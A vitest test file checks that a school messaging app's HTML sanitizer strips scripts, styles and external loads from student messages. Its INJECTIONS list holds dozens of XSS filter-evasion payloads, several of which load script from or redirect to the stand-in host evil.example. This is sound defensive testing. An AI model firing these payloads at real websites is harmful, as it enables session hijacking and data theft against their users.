import { type SmallSchool, smallSchool } from '@oppen/demo'
import { type ChildNode, Element } from 'domhandler'
import { parseDocument } from 'htmlparser2'
import { afterAll, beforeAll, expect, it } from 'vitest'

/** From the OWASP "XSS Filter Evasion Cheat Sheet" (owasp.org), written down from memory. */
const INJECTIONS = [
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '\\<a onmouseover="alert(document.cookie)"\\>xxs link\\</a\\>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://evil.example/xss.js?< B >',
  '<IMG SRC="(\'XSS\')"',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  "<svg/onload=alert('XSS')>",
  '<BGSOUND SRC="javascript:alert(\'XSS\');">',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'http://evil.example/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>alert(\'XSS\')</SCRIPT>">',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TD BACKGROUND="javascript:alert(\'XSS\')">x',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">x</DIV>',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">x</DIV>',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=">',
  '<A HREF="javascript:document.location=\'http://evil.example/\'">XSS</A>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<svg><p><style><img src=1 href=1 onerror=alert(1)></style></p></svg>',
  '<p data-strokes="x" style="position:fixed;inset:0">x</p>',
  '<img src="https://evil.example/tracker.gif?who=ada">',
]

let school: SmallSchool
beforeAll(async () => {
  school = await smallSchool()
})
afterAll(() => school.stop())

const TAGS = new Set(
  'p br h1 h2 h3 strong em u s ul ol li blockquote hr code pre a table colgroup col thead tbody tr th td img span'.split(
    ' ',
  ),
)
const ATTRIBUTES = new Set(['href', 'src', 'alt', 'data-tex', 'colspan', 'rowspan', 'start'])

const elements = (nodes: readonly ChildNode[]): Element[] =>
  nodes.flatMap(node => (node instanceof Element ? [node, ...elements(node.children)] : []))

it('nothing that somebody writes is more than formatting: no script, no style, nothing loaded from outside', async () => {
  const at = { classId: school.built.classId, spaceId: school.built.classId }
  const { noticeId: conversationId } = await school.teacher.get('writeNotice', at, { html: '<p>x</p>' })
  for (const [n, injection] of INJECTIONS.entries()) {
    school.clock.moveTo(school.clock.now() + 60_000)
    await school.anna.get('writeMessage', { ...at, conversationId }, { html: `<p>${n} ${injection}</p>` })
  }
  const { replies } = await school.teacher.get('seeNotice', { ...at, conversationId })
  expect(replies).toHaveLength(INJECTIONS.length)
  for (const { html } of replies)
    for (const { name, attribs } of elements(parseDocument(html).children)) {
      expect(TAGS.has(name), html).toBe(true)
      for (const [key, value] of Object.entries(attribs)) {
        expect(ATTRIBUTES.has(key), html).toBe(true)
        if (key === 'href') expect(value, html).toMatch(/^(https?:|mailto:|[^:]*$)/)
        if (key === 'src') expect(value, html).toMatch(/^\/api\//)
      }
    }
})
